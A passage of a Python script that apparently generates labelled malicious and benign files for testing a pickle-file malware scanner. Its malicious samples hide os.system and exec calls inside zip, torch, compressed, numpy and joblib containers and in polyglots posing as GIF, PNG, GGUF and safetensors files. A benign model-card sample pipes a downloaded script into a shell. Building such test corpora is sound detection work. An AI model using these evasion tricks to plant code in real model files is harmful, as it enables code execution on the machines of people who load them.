    yield "zip-after-junk", b"# model card\n" * 50 + zipped(("x.pkl", evil2))
    yield "zip-with-comment", zipped(("x", evil2), comment=b"weights only" * 99)
    z = bytearray(zipped(("x", evil2), method=zipfile.ZIP_STORED))
    at = z.index(b"PK\1\2")
    z[at + 16:at + 20] = b"\0\0\0\0"
    yield "zip-wrong-crc", bytes(z)
    z[at + 8] |= 1
    yield "zip-says-encrypted", bytes(z)
    yield "zip-truncated", zipped(("x", evil2), ("y", bytes(5000)), method=zipfile.ZIP_STORED)[:-30]
    yield "torch-zip-second-pickle", zipped(("m/data.pkl", pickle.dumps({}, 2)), ("m/constants.pkl", evil2), ("m/version", b"3"), method=zipfile.ZIP_STORED)
    yield "torch-zip-debug-pickle", zipped(("m/data.pkl", pickle.dumps({}, 2)), ("m/code/__torch__.py.debug_pkl", evil2), ("m/version", b"3"), method=zipfile.ZIP_STORED)
    yield "torch-zip-storage-is-pickle", zipped(("m/data.pkl", pickle.dumps({}, 2)), ("m/data/0", evil4), method=zipfile.ZIP_STORED)
    yield "torch-legacy-magic", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + evil2
    yield "torch-legacy-keys", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + pickle.dumps({}, 2) + evil2
    yield "torch-legacy-first", evil2 + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2)
    for n, f in (("gzip", lambda d: gzip.compress(d, mtime=0)), ("zlib", zlib.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE))):
        yield "wrapped-" + n, f(evil2)
        yield "wrapped-twice-" + n, f(gzip.compress(f(evil0), mtime=0))
    yield "gzip-second-member", gzip.compress(pickle.dumps(1, 2), mtime=0) + gzip.compress(evil2, mtime=0)
    yield "gzip-then-raw", gzip.compress(b"harmless", mtime=0) + evil2
    yield "gzip-truncated", gzip.compress(evil2 + bytes(range(256)) * 40, mtime=0)[:-40]
    yield "bz2-second-stream", bz2.compress(b"x") + bz2.compress(evil2)
    yield "xz-second-stream", lzma.compress(b"x") + lzma.compress(evil2)
    yield "joblib-zfile", b"ZF" + hex(len(evil2)).ljust(19).encode() + zlib.compress(evil2)
    yield "tar-plain", tarred(("w/0", evil2))
    yield "tar-gz", gzip.compress(tarred(("w/0", evil4)), mtime=0)
    yield "tar-torch", tarred(("pickle", evil2), ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)))
    yield "npy-object", npy(b"|O", (1,), evil2)
    yield "npy-object-p0", npy(b"|O", (1,), evil0)
    yield "npy-object-field", npy(b"[('a', 'O'), ('b', '<i4')]", (1,), evil2, quoted=False)
    yield "npy-then-pickle", npy(b"<f8", (1,), bytes(8)) + evil2
    yield "npz-object", zipped(("arr_0.npy", npy(b"|O", (2,), evil2)))
    yield "npz-second-array", zipped(("a.npy", npy(b"<f8", (1,), bytes(8))), ("b.npy", npy(b"|O", (1,), evil4)))
    wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + u("shape") + b"K\2\x85" + u("dtype")
    dtype = red(g("numpy", "dtype"), u("f8"), b"\x89", b"\x88")
    yield "joblib-behind-array", wrapper + dtype + b"ub" + bytes(16) + b"0" + SYSTEM + b"."
    odtype = red(g("numpy", "dtype"), u("O8"), b"\x89", b"\x88")
    yield "joblib-object-array", wrapper + odtype + b"ub" + evil2 + b"."
    yield "joblib-lying-size", wrapper + dtype + u("x") + b"K\1ub" + SYSTEM + bytes(16) + b"."
    yield "rar-said-zip", b"Rar!\x1a\x07\x01\0" + evil2
    yield "seven-zip", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + evil2
    # two formats in one file: what the loader reads is the pickle
    yield "gif-and-pickle", b"GIF89a\1\0\1" + b"0" + SYSTEM + b"."
    yield "bmp-and-pickle", b"BM" + struct.pack("<I", 200)[:3] + bytes(73 + 4 - 0) + SYSTEM + b"." + bytes(40)
    yield "catboost-and-pickle", b"CBM1" + bytes(64) + SYSTEM + b"."
    yield "gguf-and-pickle", b"GGUF\3\0\0\0\0" + SYSTEM + b"." + bytes(30)
    yield "safetensors-and-pickle", safetensors_polyglot(SYSTEM)
    yield "png-persid-then-pickle", b"\x89PNG\r\n\x1a\n" + b"0" + SYSTEM + b"."
    yield "json-then-pickle", json.dumps({"a": 1}).encode() + b"\n" + evil0
    yield "pickle-and-zip", evil2 + zipped(("readme.txt", b"hi"))
    yield "frame-hides-global", b"\x80\x04\x95\x04\0\0\0\0\0\0\0" + by(evil0) + b"."
    yield "persid-callable", p2(red(b"(" + u("storage") + g("os", "system") + u("0") + u("cpu") + b"K\1tQ"))


def zipped(*members, method=zipfile.ZIP_DEFLATED, comment=b""):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n), d, method)
        z.comment = comment
    return b.getvalue()


def tarred(*members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in members:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    return b.getvalue()


def npy(descr, shape, body, quoted=True):
    text = b"{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (b"'" + descr + b"'" if quoted else descr, repr(shape).encode())
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(text)) + text + body


def safetensors_polyglot(code):
    """A whole safetensors file whose bytes are also a pickle. The header length begins with 'X', so an unpickler skips a
    string that ends inside the metadata; a chain of short strings leads on to the tensor data, which is the program."""
    skip = 40
    size = 0x58 + (skip << 8)
    body = code + b"."
    tail = b'"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(body), len(body))
    text = b'{"__metadata__":{"a":"'
    text += b"x" * (5 + skip - 8 - len(text))
    left = size - len(text)
    while left > 256:
        text += b"U~" + b"x" * 126
        left -= 128
    for n in (left - left // 2, left // 2):
        text += b"U" + bytes([n - 2]) + b"x" * (n - 2)
    text = text[:size - len(tail)] + tail
    json.loads(text)
    return struct.pack("<Q", size) + text + body


def malicious():
    for i, (module, name, args) in enumerate(gadget_calls()):
        # STACK_GLOBAL for every second one, so that both spellings are asked
        f = sg(module, name) if i % 2 else g(module, name)
        body = red(f, *map(value, args))
        yield "call-%03d-%s.%s" % (i, module, name), p4(body) if i % 2 else p2(body)
    for i, w in enumerate(WALKS):
        module, name = w.split()
        yield "walk-%02d-%s.%s" % (i, module, name), p4(red(sg(module, name), su("id")))
    yield from in_all_dresses("system", "os", "system", "id")
    yield from in_all_dresses("unknown", "helper.tools", "launch", "start")
    yield from nested_and_contained()


def later():
    evil2 = p2(SYSTEM)
    for i, (module, name, args) in enumerate(gadget_calls(LATER)):
        body = red((sg if i % 2 else g)(module, name), *map(value, args))
        yield "later-%03d-%s.%s" % (i, module, name), p4(body) if i % 2 else p2(body)
    yield "later-sbom-float-junk", b"F1.0\n0"+SYSTEM+b"."
    yield "later-ico-like", b"\x88\x89\x88"+SYSTEM+b"."
    yield "later-flv", b"FLV\x01\n"+SYSTEM+b"."
    yield "later-proto1", b"\x80\x01"+SYSTEM+b"."
    yield "later-zip-in-npy-object", npy(b"|O",(1,),p4(red(sg("builtins","exec"),su("x"))))
    yield "later-gz-zip-pickle", gzip.compress(zipped(("a",evil2)),mtime=0)
    yield "later-tar-zip-gz", tarred(("a.zip",zipped(("b.gz",gzip.compress(evil2,mtime=0)))))
    yield "later-apply-partial", p2(red(g("functools","partial"),g("builtins","exec"),u("x")))
    yield "later-list-of-calls", p2(b"]"+SYSTEM+b"a")
    yield "later-odict-callable-item", p2(g("collections","OrderedDict")+b")R"+u("k")+SYSTEM+b"s")
    yield "later-long4-then", p2(b"\x8b\x04\x00\x00\x00abcd0"+SYSTEM)
    yield "later-binbytes8-then", b"\x80\x04\x8e"+struct.pack("<Q",5)+b"hello0"+SYSTEM+b"."
    yield "later-bytearray8", b"\x80\x05\x96"+struct.pack("<Q",len(evil2))+evil2+b"0"+SYSTEM+b"."
    yield "later-frozenset", b"\x80\x04("+SYSTEM+b"\x91."
    yield "later-additems-set", b"\x80\x04\x8f("+SYSTEM+b"\x90."
    yield "later-persid-line", b"Pabc\n0"+SYSTEM+b"."
    yield "later-setitem-on-class", p2(g("collections","OrderedDict")+u("a")+g("os","system")+b"s")
    yield "later-legacy-in-zip", zipped(("model/data.pkl",pickle.dumps(0x1950A86A20F9469CFC6C,2)+pickle.dumps(1001,2)+evil2))
    yield "later-npz-lied-name", zipped(("notes.txt",evil2))
    yield "later-xz-gz", lzma.compress(gzip.compress(b"cos\nsystem\n(S'id'\ntR.",mtime=0))
    yield "later-pad-64k", bytes(0)+p2(by(bytes(1<<17))+b"0"+SYSTEM)
    yield "later-odd-globals", p2(b"cos\r\nsystem\r\n(S'id'\ntR")
    yield "later-newline-string", b"\x80\x02cos\nsystem\n(S'id'\r\ntR."
    yield "later-reduce-on-persid", p2(b"("+u("x")+b"tQ"+tup(u("id"))+b"R")
    yield "later-build-on-ndarray", p2(red(g("numpy.core.multiarray","_reconstruct"),g("numpy","ndarray"),b"K\0\x85",b"C\1b")+tup(b"K\1",b"K\1\x85",red(g("numpy","dtype"),u("O8"),b"\x89",b"\x88"),b"\x89",b"]"+SYSTEM+b"a")+b"b")


# --- benign ----------------------------------------------------------------------------------------------------------
Point = collections.namedtuple("Point", "x y")


def plain_objects():
    yield "scalars", [1, -1, 2**70, 1.5, True, None, "text", b"bytes", "汉字", 3j]
    yield "nested", {"a": [1, (2, 3), {"b": {4, 5}}], "c": frozenset([6]), "d": bytearray(b"xyz")}
    yield "ordered", collections.OrderedDict(a=1, b=[2])
    yield "counter", collections.Counter("hello")
    yield "defaultdict", collections.defaultdict(list, a=[1])
    yield "deque", collections.deque([1, 2], 5)
    yield "dates", [datetime.datetime(2024, 1, 2), datetime.date(2024, 1, 2), datetime.timedelta(3), datetime.timezone.utc]
    yield "numbers", [decimal.Decimal("1.5"), fractions.Fraction(1, 3)]
    yield "paths", [pathlib.PurePosixPath("a/b"), uuid.UUID(int=5)]
    yield "range", [range(5), slice(1, 2), Ellipsis]
    yield "long-text", "All work and no play; see https://example.org/ and run `pip install x` | less\n" * 200
    yield "shared", [[1]] * 4
    yield "many", {"layer.%d.weight" % i: [float(i)] * 5 for i in range(500)}
    yield "sets", [set(range(50)), frozenset("abc")]
    yield "errors", [ValueError("a message"), KeyError("k")]


def torch_state_dict():
    """A state dict as torch.save writes it, without torch: a pickle of storages beside the bytes."""
    od = g("collections", "OrderedDict")
    items = b""
    for k, (n, dim) in enumerate((("a.weight", (2, 3)), ("a.bias", (2,)))):
        numel = 6 if len(dim) == 2 else 2
        storage = tup(u("storage"), g("torch", "FloatStorage"), u(str(k)), u("cpu"), b"K" + bytes([numel])) + b"Q"
        stride = (3, 1) if len(dim) == 2 else (1,)
        items += u(n) + red(g("torch._utils", "_rebuild_tensor_v2"), storage, b"K\0", value(dim), value(stride), b"\x89", red(od))
    data = b"\x80\x02" + od + b")R(" + items + b"u."
    return data


def benign(protocols=range(6)):
    for name, obj in plain_objects():
        for p in protocols:
            yield "%s-p%d.pkl" % (name, p), pickle.dumps(obj, p)
    yield "state.pt", zipped(("m/data.pkl", torch_state_dict()), ("m/byteorder", b"little"), ("m/data/0", bytes(24)), ("m/data/1", bytes(8)), ("m/version", b"3\n"), method=zipfile.ZIP_STORED)
    yield "card.md", b"---\nlicense: mit\n---\n# Model\n\n```python\nimport os\nfrom x import y\n```\n\n```sh\ncurl https://x.y/install.sh | sh\n```\n"
    yield "gz.json.gz", gzip.compress(b'{"a": 1}', mtime=0)
    yield from benign_numpy(protocols)
    yield from benign_sklearn(protocols)


def saved(write, obj, **kw):
    b = io.BytesIO()
    write(obj, b, **kw)
    return b.getvalue()


def benign_numpy(protocols):
    try:
        import numpy
    except ImportError:
        return
    r = numpy.random.RandomState(7)
    arrays = {"f8": r.rand(5, 3), "f4": r.rand(7).astype("f4"), "i8": numpy.arange(9), "bool": numpy.array([True, False]), "str": numpy.array(["a", "bcd"]),
              "fortran": numpy.asfortranarray(r.rand(4, 4)), "objects": numpy.array(["a", 1, None], dtype=object), "record": numpy.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
              "masked": numpy.ma.masked_array([1, 2, 3], mask=[0, 1, 0]), "scalar": numpy.float64(2.5), "dtype": numpy.dtype("f4"), "time": numpy.array(["2024-01-02"], dtype="datetime64[D]"),
              "empty": numpy.zeros((0, 4)), "matrix": numpy.matrix([[1, 2]]), "ufunc": numpy.log1p, "big": r.rand(300, 40)}
    for name, a in arrays.items():
        for p in protocols:
            yield "np-%s-p%d.pkl" % (name, p), pickle.dumps(a, p)
    for seedlike, obj in (("randomstate", r), ("generator", numpy.random.default_rng(3)), ("seedseq", numpy.random.SeedSequence(3))):
        for p in range(2, 6):
            yield "np-%s-p%d.pkl" % (seedlike, p), pickle.dumps(obj, p)
    for name in ("f8", "i8", "bool", "str", "fortran", "record", "objects"):
        yield "np-%s.npy" % name, saved(lambda a, b: numpy.save(b, a, allow_pickle=True), arrays[name])
    yield "np.npz", saved(lambda a, b: numpy.savez(b, **a), {"x": arrays["f8"], "y": arrays["i8"]})
    yield "np-compressed.npz", saved(lambda a, b: numpy.savez_compressed(b, **a), {"x": arrays["f8"], "y": arrays["i8"]})
    try:
        import joblib
    except ImportError:
        return
    model = {"coef": arrays["f8"], "names": arrays["objects"], "n": 3, "nested": [arrays["big"], arrays["fortran"]]}
    for c in (0, 3, ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
        yield "joblib-%s.joblib" % (c if isinstance(c, int) else c[0]), saved(lambda o, b: joblib.dump(o, b, compress=c), model)
    try:
        import pandas
    except ImportError:
        return
    frame = pandas.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pandas.to_datetime(["2024-01-02", "2024-01-03"])})
    things = {"frame": frame, "series": frame.a, "index": pandas.Index(["p", "q"]), "categorical": frame.b.astype("category"), "multi": frame.set_index(["a", "b"]), "range": pandas.RangeIndex(5), "stamp": pandas.Timestamp("2024-01-02"),
              "interval": pandas.interval_range(0, 3), "nullable": pandas.array([1, None], dtype="Int64")}
    for name, obj in things.items():
        for p in range(2, 6):
            yield "pd-%s-p%d.pkl" % (name, p), pickle.dumps(obj, p)


def benign_sklearn(protocols):
    try:
        import numpy
        import sklearn.cluster
        import sklearn.compose
        import sklearn.decomposition
        import sklearn.ensemble
        import sklearn.feature_extraction.text
        import sklearn.gaussian_process
        import sklearn.linear_model
        import sklearn.naive_bayes
        import sklearn.neighbors
        import sklearn.neural_network
        import sklearn.pipeline
        import sklearn.preprocessing
        import sklearn.svm
        import sklearn.tree
    except ImportError:
        return
    r = numpy.random.RandomState(1)
    x, y = r.rand(40, 4), r.randint(0, 3, 40)
    models = [sklearn.linear_model.LogisticRegression(), sklearn.linear_model.Ridge(), sklearn.linear_model.SGDClassifier(), sklearn.svm.SVC(), sklearn.tree.DecisionTreeClassifier(),
              sklearn.ensemble.RandomForestClassifier(5), sklearn.ensemble.GradientBoostingClassifier(n_estimators=4), sklearn.ensemble.HistGradientBoostingClassifier(max_iter=3),
              sklearn.neighbors.KNeighborsClassifier(algorithm="ball_tree"), sklearn.neighbors.KNeighborsClassifier(algorithm="kd_tree"), sklearn.neighbors.KernelDensity(),
              sklearn.cluster.KMeans(3, n_init=1), sklearn.decomposition.PCA(2), sklearn.naive_bayes.GaussianNB(), sklearn.neural_network.MLPClassifier(max_iter=2),
              sklearn.gaussian_process.GaussianProcessRegressor(), sklearn.preprocessing.StandardScaler(), sklearn.preprocessing.FunctionTransformer(numpy.log1p),
              sklearn.pipeline.make_pipeline(sklearn.preprocessing.StandardScaler(), sklearn.linear_model.LogisticRegression()),
              sklearn.compose.ColumnTransformer([("a", sklearn.preprocessing.OneHotEncoder(handle_unknown="ignore"), [0])]), sklearn.ensemble.IsolationForest(n_estimators=3)]
    import warnings
    warnings.simplefilter("ignore")
    for m in models:
        m.fit(x, y)
        for p in range(6):
            yield "sk-%s-p%d.pkl" % (type(m).__name__, p), pickle.dumps(m, p)
    v = sklearn.feature_extraction.text.TfidfVectorizer().fit(["a quick fox", "lazy dog"])
    for p in range(6):
        yield "sk-tfidf-p%d.pkl" % p, pickle.dumps(v, p)


def main():
    out = pathlib.Path(sys.argv[1])
    for label, samples in (("malicious", malicious()), ("benign", benign())):
        (out / label).mkdir(parents=True, exist_ok=True)
        for name, data in samples:
            (out / label / name.replace("/", "_")).write_bytes(data)


if __name__ == "__main__":
    main()
